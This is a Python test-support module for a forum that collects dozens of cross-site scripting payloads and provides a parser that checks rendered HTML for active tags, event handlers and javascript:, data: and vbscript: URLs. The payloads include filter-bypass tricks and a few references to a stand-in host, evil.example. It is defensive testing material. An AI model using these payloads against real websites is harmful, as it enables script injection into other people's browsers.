"""A shared corpus of script-injection payloads, and the check that rendered HTML is inert.

Every field a member can type into (post bodies, titles, bios, display names, report reasons)
should be tested with every payload here:

    @pytest.mark.parametrize(("name", "payload"), XSS_PAYLOADS, ids=[n for n, _ in XSS_PAYLOADS])
    def test_thread_title_is_inert(name, payload): ...
        assert_no_active_content(response.content.decode())

XSS_PAYLOADS can all be stored by PostgreSQL and sent by Django's test client. The few that
cannot (a NUL byte, a lone surrogate) are in UNSTORABLE_PAYLOADS, for code that handles text
before it reaches a form or the database, such as core.markdown.

assert_no_active_content() parses the HTML, as a browser would, instead of searching the raw
string: text a member typed and we escaped ("&lt;script&gt;") is fine, a real tag is not.
Run it on the fragment that holds member text, not on a whole page (pages have our own
<script src> and <link> tags).
"""

import html
import re
import unicodedata
from html.parser import HTMLParser
from urllib.parse import unquote

_JS = "javascript:alert(1)"
_DATA_HTML = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
# "ｊａｖａｓｃｒｉｐｔ": full-width letters, which NFKC normalisation folds to ASCII.
_FULLWIDTH_JAVASCRIPT = "".join(chr(ord(letter) + 0xFEE0) for letter in "javascript")

_SCRIPT_AND_STYLE = [
    ("script_tag", "<script>alert(1)</script>"),
    ("script_uppercase_remote", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script_split_tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script_mid_sentence", "Hello <script>alert(1)</script> world"),
    ("script_html_block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("script_after_blank_line_html_block", "<div>\n\n<script>alert(1)</script>\n\n</div>"),
    ("script_in_heading", "# <script>alert(1)</script>"),
    ("script_in_list", "- item <script>alert(1)</script>"),
    ("script_in_emphasis", "**<script>alert(1)</script>**"),
    ("script_in_table_cell", "| a |\n|---|\n| <script>alert(1)</script> |"),
    ("script_closing_code_span", "`</code><script>alert(1)</script>`"),
    ("script_in_fence_info", '```"><script>alert(1)</script>\ncode\n```'),
    ("script_textarea_breakout", "</textarea><script>alert(1)</script>"),
    ("script_title_breakout", "</title><script>alert(1)</script>"),
    (
        "script_xhtml_namespace",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    ),
    ("script_cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("script_in_comment", "<!--<script>alert(1)</script>-->"),
    ("style_tag", "<style>body { display: none }</style>"),
    ("style_attribute_url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style_attribute_expression", '<div style="width: expression(alert(1))">x</div>'),
    ("link_stylesheet", "<link rel=stylesheet href=javascript:alert(1)>"),
]

_EVENT_HANDLERS = [
    ("img_onerror", "<img src=x onerror=alert(1)>"),
    ("img_onerror_backticks", "<img src=`x` onerror=alert(1)>"),
    ("body_onload", "<body onload=alert(1)>"),
    ("details_ontoggle", "<details open ontoggle=alert(1)>"),
    ("anchor_onmouseover", '<a href="https://example.com" onmouseover="alert(1)">x</a>'),
    ("input_onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee_onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("video_source_onerror", "<video><source onerror=alert(1)></video>"),
    ("audio_onerror", "<audio src=x onerror=alert(1)>"),
    ("handler_in_table_cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    ("handler_in_quote", "> <img src=x onerror=alert(1)>"),
    ("link_title_breakout", '[x](https://example.com "\\" onmouseover=\\"alert(1)")'),
    ("link_url_quote_breakout", '[x](https://example.com/"onmouseover="alert(1))'),
    ("link_url_single_quote_breakout", "[x](https://example.com/'onmouseover='alert(1))"),
    ("autolink_quote_breakout", '<https://example.com/"onmouseover="alert(1)>'),
    ("fence_info_handler", "```js onerror=alert(1)\nx\n```"),
    ("mention_quote_breakout", '@sam"onmouseover="alert(1)'),
    ("mention_then_tag", "@sam<img src=x onerror=alert(1)>"),
]

_LINKS = [
    # Inline links.
    ("inline_javascript", f"[click]({_JS})"),
    ("inline_javascript_upper", "[click](JAVASCRIPT:alert(1))"),
    ("inline_javascript_mixed_case", "[click](JaVaScRiPt:alert(1))"),
    ("inline_javascript_pointy", f"[click](<{_JS}>)"),
    ("inline_javascript_pointy_leading_space", f"[click](< {_JS}>)"),
    ("inline_javascript_pointy_tab", "[click](<java\tscript:alert(1)>)"),
    ("inline_javascript_newline", "[click](java\nscript:alert(1))"),
    ("inline_javascript_escaped_colon", "[click](javascript\\:alert(1))"),
    ("inline_javascript_decimal_entity", "[click](&#106;avascript:alert(1))"),
    ("inline_javascript_hex_entity", "[click](&#x6A;avascript:alert(1))"),
    ("inline_javascript_entity_no_semicolon", "[click](&#106avascript:alert(1))"),
    ("inline_javascript_colon_entity", "[click](javascript&colon;alert(1))"),
    ("inline_javascript_tab_entity", "[click](java&Tab;script:alert(1))"),
    ("inline_javascript_newline_entity", "[click](java&#10;script:alert(1))"),
    ("inline_javascript_percent_letter", "[click](%6Aavascript:alert(1))"),
    ("inline_javascript_percent_colon", "[click](javascript%3Aalert(1))"),
    ("inline_javascript_double_percent", "[click](%256Aavascript:alert(1))"),
    ("inline_javascript_percent_tab", "[click](java%09script:alert(1))"),
    ("inline_javascript_title", f'[click]({_JS} "title")'),
    ("inline_data_html", f"[click]({_DATA_HTML})"),
    ("inline_data_upper", "[click](DATA:text/html,<script>alert(1)</script>)"),
    ("inline_vbscript", "[click](vbscript:msgbox(1))"),
    ("inline_vbscript_mixed_case", "[click](VbScRiPt:msgbox(1))"),
    ("inline_javascript_in_link_text", f'[<a href="{_JS}">x</a>](https://example.com)'),
    ("inline_link_in_link", f"[[inner]({_JS})](https://example.com)"),
    # Reference-style links.
    ("reference_javascript", f"[click][x]\n\n[x]: {_JS}"),
    ("reference_shortcut_javascript", f"[x]\n\n[x]: {_JS}"),
    ("reference_collapsed_javascript", f"[x][]\n\n[x]: {_JS}"),
    ("reference_javascript_entity", "[click][x]\n\n[x]: &#106;avascript:alert(1)"),
    ("reference_javascript_pointy", f"[click][x]\n\n[x]: <{_JS}>"),
    ("reference_data", f"[click][x]\n\n[x]: {_DATA_HTML}"),
    ("reference_vbscript", "[click][x]\n\n[x]: vbscript:msgbox(1)"),
    # Autolinks.
    ("autolink_javascript", f"<{_JS}>"),
    ("autolink_javascript_upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink_data", f"<{_DATA_HTML}>"),
    ("autolink_vbscript", "<vbscript:msgbox(1)>"),
    ("autolink_email_lookalike", "<javascript:alert(1)@example.com>"),
    # Bare URLs (only links if something linkifies them).
    ("bare_javascript", _JS),
    ("bare_javascript_after_text", "see javascript:alert(1)//https://example.com"),
    ("bare_data", _DATA_HTML),
    ("bare_vbscript", "vbscript:msgbox(1)"),
    # Raw HTML anchors.
    ("html_anchor_javascript", f'<a href="{_JS}">x</a>'),
    (
        "html_anchor_entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    ("html_anchor_tab_entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("html_anchor_leading_control", '<a href=" &#14; javascript:alert(1)">x</a>'),
    ("html_anchor_data", f'<a href="{_DATA_HTML}">x</a>'),
    ("html_form_action", f'<form action="{_JS}"><button>x</button></form>'),
    ("html_button_formaction", f'<button formaction="{_JS}">x</button>'),
    ("html_base_href", f'<base href="{_JS}//">'),
    ("html_meta_refresh", f'<meta http-equiv="refresh" content="0;url={_JS}">'),
    ("html_table_background", f'<table background="{_JS}"><tr><td>x</td></tr></table>'),
    ("html_isindex", f"<isindex action={_JS} type=image>"),
]

_IMAGES = [
    ("image_remote_tracker", "![tracker](https://evil.example/pixel.gif)"),
    ("image_javascript", f"![x]({_JS})"),
    ("image_data_png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("image_data_svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image_reference_javascript", f"![x][img]\n\n[img]: {_JS}"),
    ("image_reference_remote", "![x][img]\n\n[img]: https://evil.example/pixel.gif"),
    ("image_title_handler", '![x](https://example.com/x.png "onerror=alert(1)")'),
    ("image_inside_javascript_link", f"[![x](https://example.com/x.png)]({_JS})"),
    ("image_inside_link", "[![x](https://example.com/x.png)](https://example.com)"),
    ("image_alt_script", "![<script>alert(1)</script>](https://example.com/x.png)"),
    ("image_alt_javascript_link", f"![[x]({_JS})](https://example.com/x.png)"),
]

_EMBEDDED_CONTENT = [
    ("iframe_javascript", f'<iframe src="{_JS}"></iframe>'),
    ("iframe_srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object_data", f'<object data="{_JS}"></object>'),
    ("embed_data", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("frameset", f'<frameset><frame src="{_JS}"></frameset>'),
    ("applet", '<applet code="Evil.class"></applet>'),
    ("svg_onload", "<svg onload=alert(1)>"),
    ("svg_slash_onload", "<svg/onload=alert(1)>"),
    ("svg_script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg_animate_href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>X</text></a></svg>",
    ),
    ("svg_use_data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("math_mglyph_style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript_title_breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template_tag", "<template><script>alert(1)</script></template>"),
]

_NESTING = [
    ("nested_quotes_script", "> > > <script>alert(1)</script>"),
    ("nested_quotes_link", "> " * 50 + f"[click]({_JS})"),
    ("nested_quotes_image", "> > ![x](https://evil.example/pixel.gif)"),
    ("nested_list_in_quote", f"> - > 1. [click]({_JS})"),
    ("nested_emphasis_link", f"***~~[click]({_JS})~~***"),
    ("nested_brackets_link", "[[[[[[[[[[" + f"[click]({_JS})" + "]]]]]]]]]]"),
]

_ENCODING_AND_UNICODE = [
    ("escaped_entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double_escaped_entities", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("percent_encoded_tag", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ("js_unicode_escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("utf7_tag", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("fullwidth_tag", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("fullwidth_javascript_link", f"[click]({_FULLWIDTH_JAVASCRIPT}:alert(1))"),
    ("zero_width_in_scheme", "[click](java\u200bscript:alert(1))"),
    ("soft_hyphen_in_scheme", "[click](java\u00adscript:alert(1))"),
    ("nbsp_before_scheme", f"[click](<\u00a0{_JS}>)"),
    ("rtl_override_link", f"\u202e[click]({_JS})"),
    ("rtl_override_text", "\u202egpj.exe <script>alert(1)</script>"),
    ("bom_before_tag", "\ufeff<script>alert(1)</script>"),
    ("combining_mark_tag", "<s\u0301cript>alert(1)</script>"),
    ("cyrillic_lookalike_scheme", "[click](j\u0430vascript:alert(1))"),
]

XSS_PAYLOADS: list[tuple[str, str]] = [
    *_SCRIPT_AND_STYLE,
    *_EVENT_HANDLERS,
    *_LINKS,
    *_IMAGES,
    *_EMBEDDED_CONTENT,
    *_NESTING,
    *_ENCODING_AND_UNICODE,
]

# PostgreSQL refuses NUL in text and UTF-8 cannot encode a lone surrogate, so these belong
# to tests of text handling, not to tests that post through a form or save a model.
UNSTORABLE_PAYLOADS: list[tuple[str, str]] = [
    ("nul_inside_tag", "<scr\x00ipt>alert(1)</script>"),
    ("nul_inside_scheme", "[click](java\x00script:alert(1))"),
    ("nul_before_tag", "\x00<script>alert(1)</script>"),
    ("lone_surrogate_inside_tag", "<scr\ud800ipt>alert(1)</script>"),
    ("lone_surrogate_inside_scheme", "[click](java\udfffscript:alert(1))"),
]

ACTIVE_TAGS = frozenset(
    {"script", "style", "iframe", "object", "embed", "svg", "img"}
    | {"math", "link", "meta", "base", "frame", "frameset", "applet", "form", "template"}
    # Browsers read these as raw text but html.parser does not, so markup "inside" an
    # attribute can escape them (<noscript><p title="</noscript><img onerror=...>">).
    | {"noscript", "noembed", "noframes", "xmp", "plaintext"}
)
# Attributes that hold a URL a browser may load or navigate to.
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href"}
    | {"srcset", "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "ping", "srcdoc"}
)
ACTIVE_SCHEMES = ("javascript:", "data:", "vbscript:")
# A tag name inside a comment or CDATA section: browsers and html.parser disagree about
# where some malformed comments end ("<!-->"), so a tag hidden there counts as present.
_HIDDEN_TAG = re.compile(r"<\s*/?\s*(?:" + "|".join(sorted(ACTIVE_TAGS)) + r")\b", re.I)


def assert_no_active_content(html_text: str) -> None:
    """Fail if `html_text` holds anything a browser would run, load or style."""
    problems = find_active_content(html_text)
    assert not problems, f"active content in {html_text!r}: {problems}"


def find_active_content(html_text: str) -> list[str]:
    """Return a description of each active tag, handler or URL in `html_text`."""
    finder = _ActiveContentFinder()
    finder.feed(html_text)
    finder.close()
    return finder.problems


def url_is_active(url: str) -> bool:
    """True if a browser could run or render `url` as script or a document of its own.

    Undoes entities, percent-encoding (twice over), full-width letters and every whitespace,
    control and invisible character, so "&#106;ava\\tscript:" and "%6Aavascript:" count.
    """
    loosened = url
    for _ in range(3):
        loosened = unquote(html.unescape(loosened))
    loosened = unicodedata.normalize("NFKC", loosened)
    loosened = "".join(char for char in loosened if not _is_invisible(char)).casefold()
    return loosened.startswith(ACTIVE_SCHEMES)


def _is_invisible(char: str) -> bool:
    return char.isspace() or unicodedata.category(char)[0] in "CZ"


class _ActiveContentFinder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.problems.append(f"<{tag}> tag")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")

    def handle_comment(self, data: str) -> None:
        self._check_hidden(data)

    def unknown_decl(self, data: str) -> None:
        self._check_hidden(data)

    def _check_hidden(self, data: str) -> None:
        if hidden := _HIDDEN_TAG.search(data):
            self.problems.append(f"{hidden[0]!r} inside a comment or declaration")

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.problems.append(f"{name} handler on <{tag}>")
        elif name == "style":
            self.problems.append(f"style attribute on <{tag}>")
        elif name in URL_ATTRIBUTES and url_is_active(value):
            self.problems.append(f"{name}={value!r} on <{tag}>")
